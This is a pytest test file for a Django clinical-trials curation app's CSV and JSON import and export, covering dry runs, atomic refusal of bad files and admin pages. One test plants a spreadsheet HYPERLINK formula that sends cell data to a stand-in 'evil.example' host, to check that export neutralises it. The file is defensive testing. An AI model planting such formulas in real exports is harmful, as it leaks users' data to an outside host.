"""Curators' CSV/JSON import: natural keys, dry run, all-or-nothing, one clear message for
every malformed file, per-row reasons, history through the one write path."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from tests.factories import (
    ClinicalTrialFactory,
    ConditionFactory,
    ReviewFactory,
    ReviewReferenceFactory,
)
from trials.models import ClinicalTrial

pytestmark = pytest.mark.django_db


@pytest.fixture
def exported(tmp_path):
    review = ReviewFactory(slug="foo-2021")
    ReviewReferenceFactory(review=review, number=140)
    ConditionFactory(slug="covid-19")
    ClinicalTrialFactory.create_batch(2, source_review=review)
    out = io.StringIO()
    call_command("export_records", "trials", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 2
    return tmp_path, rows


def write_csv(path, rows):
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def state():
    """Every trial's stored fields, links and history length."""
    return [
        (
            {f.attname: getattr(t, f.attname) for f in t._meta.concrete_fields},
            sorted(t.conditions.values_list("pk", flat=True)),
            sorted(t.cited_references.values_list("pk", flat=True)),
            t.history.count(),
        )
        for t in ClinicalTrial.objects.order_by("pk")
    ]


def refused(path, entity="trials", match=None):
    before = state()
    with pytest.raises(CommandError) as excinfo:
        call_command("import_records", entity, str(path))
    assert state() == before
    if match:
        assert match in str(excinfo.value), str(excinfo.value)
    return str(excinfo.value)


def test_reimport_updates_instead_of_duplicating(exported):
    tmp_path, rows = exported
    rows[0]["route"] = "intrathecal"
    rows[0]["conditions"] = "covid-19"
    rows[0]["refs"] = "140"
    path = write_csv(tmp_path / "trials.csv", rows)
    call_command("import_records", "trials", str(path))
    assert ClinicalTrial.objects.count() == 2
    trial = ClinicalTrial.objects.get(slug=rows[0]["slug"])
    assert trial.route == "intrathecal"
    assert [c.slug for c in trial.conditions.all()] == ["covid-19"]
    assert trial.reference_numbers == [140]
    assert trial.version == 2
    assert trial.history.first().history_change_reason == "import: trials.csv"


def test_dry_run_writes_nothing(exported, capsys):
    tmp_path, rows = exported
    rows[0]["route"] = "intrathecal"
    rows.append({**rows[1], "slug": "nct99999999", "nct_id": "NCT99999999"})
    path = write_csv(tmp_path / "trials.csv", rows)
    before = state()
    call_command("import_records", "trials", str(path), "--dry-run")
    assert (
        "Dry run, nothing written: 2 changed (1 created, 1 updated), 1 unchanged."
        in capsys.readouterr().out
    )
    assert state() == before
    assert ClinicalTrial.objects.count() == 2


def test_unchanged_file_reports_no_change_and_writes_no_history(exported, capsys):
    tmp_path, rows = exported
    path = write_csv(tmp_path / "trials.csv", rows)
    before = state()
    call_command("import_records", "trials", str(path))
    assert "Imported: 0 changed (0 created, 0 updated), 2 unchanged." in (
        capsys.readouterr().out
    )
    assert state() == before


def test_bad_rows_refuse_the_whole_file_with_reasons(exported, capsys):
    tmp_path, rows = exported
    rows[0]["route"] = "intrathecal"  # a good change, which must not be half-applied
    rows[1]["nct_id"] = "NCT123"
    rows.append({**rows[1], "slug": "new-trial", "nct_id": "", "therapy": "no-such"})
    path = write_csv(tmp_path / "trials.csv", rows)
    refused(path, match="nothing was written")
    errors = capsys.readouterr().err
    assert "row 2: nct_id:" in errors and "followed by 8 digits" in errors
    assert "row 3: therapy: no therapy with slug 'no-such'" in errors
    assert ClinicalTrial.objects.get(slug=rows[0]["slug"]).route == "intravenous"
    assert ClinicalTrial.objects.count() == 2


def test_json_round_trip(exported):
    tmp_path, _ = exported
    out = io.StringIO()
    call_command("export_records", "trials", "--format", "json", stdout=out)
    records = json.loads(out.getvalue())
    assert records[0]["refs"] == [] and records[0]["flags"] == []
    records[0]["dose_as_printed"] = "0.5 mL"
    path = tmp_path / "trials.json"
    path.write_text(json.dumps(records))
    call_command("import_records", "trials", str(path))
    assert (
        ClinicalTrial.objects.get(slug=records[0]["slug"]).dose_as_printed == "0.5 mL"
    )


def test_admin_import_page_offers_preview(admin_client_logged):
    response = admin_client_logged.get("/admin/trials/clinicaltrial/import/")
    assert response.status_code == 200
    assert b"import_file" in response.content


# The key column and duplicate keys ---------------------------------------------------


def test_import_records_refuses_a_file_without_the_key_column(exported, capsys):
    tmp_path, _ = exported
    path = tmp_path / "trials.csv"
    path.write_text("design_as_printed,route\nx,intrathecal\n")
    refused(path, match="refused")
    assert "no 'slug' column" in capsys.readouterr().err


def test_unknown_columns_are_refused_by_name(exported, capsys):
    tmp_path, rows = exported
    rows = [{**row, "verification_status": "extracted"} for row in rows]
    refused(write_csv(tmp_path / "trials.csv", rows))
    assert "unknown column(s): 'verification_status'" in capsys.readouterr().err


def test_duplicate_keys_are_refused_with_their_row_numbers(exported, capsys):
    tmp_path, rows = exported
    rows = [rows[0], rows[1], {**rows[0], "route": "intrathecal"}]
    refused(write_csv(tmp_path / "trials.csv", rows))
    err = capsys.readouterr().err
    assert f"duplicate key {rows[0]['slug']} in rows 1, 3" in err


def test_an_empty_key_is_refused(exported, capsys):
    tmp_path, rows = exported
    rows[1]["slug"] = ""
    refused(write_csv(tmp_path / "trials.csv", rows))
    assert "row(s) 2: the key (slug) is empty" in capsys.readouterr().err


# Malformed files: one CommandError, never a traceback --------------------------------


@pytest.mark.parametrize(
    "name,content,message",
    [
        ("trials.csv", b"", "the file is empty"),
        ("trials.csv", b"slug,route\nnct1,intravenous,extra\n", "has 3 cells"),
        ("trials.csv", b'slug,route\n"nct1"x,intravenous\n', "not valid CSV"),
        ("trials.csv", b"slug,route\nnct1,intra\x00venous\n", "NUL byte on line 2"),
        ("trials.csv", b"slug,route\nnct1,caf\xe9\n", "not UTF-8 text: byte 0xe9"),
        ("trials.json", b"\xff\xfe[]", "not UTF-8 text"),
        ("trials.json", b'[{"slug": "nct1", ', "not valid JSON"),
        ("trials.json", b'{"slug": "nct1"}', "is an object, not a list of objects"),
        ("trials.json", b"[1, 2]", "record 1 is a number, not an object"),
        ("trials.json", b'"trials"', "is a string, not a list"),
        ("trials.json", b'[{"slug": {"a": 1}}]', "not a nested object"),
        ("trials.json", b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
        ("trials.json", b"[" * 70 + b"]" * 70, "nested more than 64 levels"),
        ("trials.txt", b"slug\nnct1\n", "must end in .csv or .json"),
    ],
)
def test_malformed_files_give_one_clear_message(exported, name, content, message):
    tmp_path, _ = exported
    path = tmp_path / name
    path.write_bytes(content)
    text = refused(path, match=message)
    assert "Traceback" not in text


# Values that cannot be stored ---------------------------------------------------------


@pytest.mark.parametrize("value", ["inf", "-inf", "nan", "1e400", "Infinity"])
def test_non_finite_doses_are_a_per_row_reason_in_csv(exported, capsys, value):
    tmp_path, rows = exported
    rows[0]["route"] = "intrathecal"  # valid, and must not be written either
    rows[1].update(dose_low=value, dose_high="", dose_unit="cells")
    refused(write_csv(tmp_path / "trials.csv", rows))
    err = capsys.readouterr().err
    assert "row 2: dose_low:" in err and "not a finite number" in err
    assert ClinicalTrial.objects.filter(route="intrathecal").count() == 0


@pytest.mark.parametrize("literal", ["1e400", "Infinity", "-Infinity", "NaN"])
def test_non_finite_doses_are_a_per_row_reason_in_json(exported, capsys, literal):
    tmp_path, _ = exported
    out = io.StringIO()
    call_command("export_records", "trials", "--format", "json", stdout=out)
    records = json.loads(out.getvalue())
    records[0]["dose_high"] = "__X__"
    records[0]["dose_unit"] = "cells"
    path = tmp_path / "trials.json"
    path.write_text(json.dumps(records).replace('"__X__"', literal))
    refused(path)
    err = capsys.readouterr().err
    assert "row 1: dose_high:" in err and "not a finite number" in err
    assert not ClinicalTrial.objects.filter(dose_high__isnull=False).exists()


def test_every_entity_can_be_exported_and_imported(tmp_path):
    from evidence.dataset.specs import specs

    for spec in specs():
        out = io.StringIO()
        call_command("export_records", spec.name, "--format", "json", stdout=out)
        path = tmp_path / f"{spec.name}.json"
        path.write_text(out.getvalue())
        summary = io.StringIO()
        call_command("import_records", spec.name, str(path), stdout=summary)
        assert "0 changed" in summary.getvalue()


def test_the_resource_rolls_back_every_row_when_one_is_invalid(exported):
    """What the admin's confirm step calls: import_data(dry_run=False) without asking for
    a rollback on validation errors. One invalid row still means nothing is written."""
    import tablib

    from trials.resources import TrialResource

    _, rows = exported
    rows[0]["route"] = "intrathecal"
    rows.append({**rows[1], "slug": "nct09999995", "nct_id": "NCT0999"})
    dataset = tablib.Dataset(headers=list(rows[0]))
    for row in rows:
        dataset.append(list(row.values()))
    before = state()
    result = TrialResource().import_data(dataset, dry_run=False, file_name="trials.csv")
    assert result.has_validation_errors()
    assert state() == before


@pytest.mark.parametrize(
    "content,message",
    [
        ("design_as_printed,route\nx,intrathecal\n", "no &#x27;slug&#x27; column"),
        ("slug,route\nnct1,intravenous\nnct1,intrathecal\n", "in rows 1, 2"),
    ],
)
def test_admin_import_refuses_a_bad_file_with_its_reason(
    exported, admin_client_logged, content, message
):
    from django.contrib import admin

    model_admin = admin.site._registry[ClinicalTrial]
    index = next(
        i
        for i, f in enumerate(model_admin.get_import_formats())
        if f().get_title() == "csv"
    )
    upload = io.BytesIO(content.encode())
    upload.name = "trials.csv"
    before = state()
    response = admin_client_logged.post(
        "/admin/trials/clinicaltrial/import/",
        {"format": index, "import_file": upload, "resource": 0},
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert "confirm_form" not in response.context or not response.context.get(
        "confirm_form"
    )
    assert state() == before


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_unchanged_export_of_trials_reimports(tmp_path, fmt):
    """D9: trials without an NCT id and publications without a DOI come back as NULL."""
    from evidence.models import Publication
    from tests.factories import PublicationFactory

    review = ReviewFactory(slug="foo-2021")
    ClinicalTrialFactory(source_review=review, slug="foo2021-t2-r05", nct_id=None)
    ClinicalTrialFactory(source_review=review)
    PublicationFactory(doi=None)
    for entity in ("trials", "publications"):
        out = io.StringIO()
        call_command("export_records", entity, "--format", fmt, stdout=out)
        path = tmp_path / f"{entity}.{fmt}"
        path.write_text(out.getvalue())
        for extra in (["--dry-run"], []):
            summary = io.StringIO()
            call_command("import_records", entity, str(path), *extra, stdout=summary)
            assert "0 changed (0 created, 0 updated)" in summary.getvalue()
    assert ClinicalTrial.objects.filter(nct_id=None).count() == 1
    assert Publication.objects.filter(doi=None).count() == 1
    assert not ClinicalTrial.objects.filter(nct_id="").exists()
    assert not Publication.objects.filter(doi="").exists()


def test_admin_export_neutralises_formulas(exported, admin_client_logged):
    """D12: the admin's export (any format that is a grid of cells) is neutralised."""
    from django.contrib import admin

    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    trial = ClinicalTrial.objects.first()
    ClinicalTrial.objects.filter(pk=trial.pk).update(design_as_printed=formula)
    model_admin = admin.site._registry[ClinicalTrial]
    formats = model_admin.get_export_formats()
    index = next(i for i, f in enumerate(formats) if f().get_title() == "csv")
    page = admin_client_logged.get("/admin/trials/clinicaltrial/export/")
    data = {"format": index, "resource": 0}
    for name, field in page.context["form"].fields.items():
        if getattr(field, "is_selectable_field", False):
            data[name] = "on"
    response = admin_client_logged.post("/admin/trials/clinicaltrial/export/", data)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    cells = {row["slug"]: row["design_as_printed"] for row in rows}
    assert cells[trial.slug] == "'" + formula
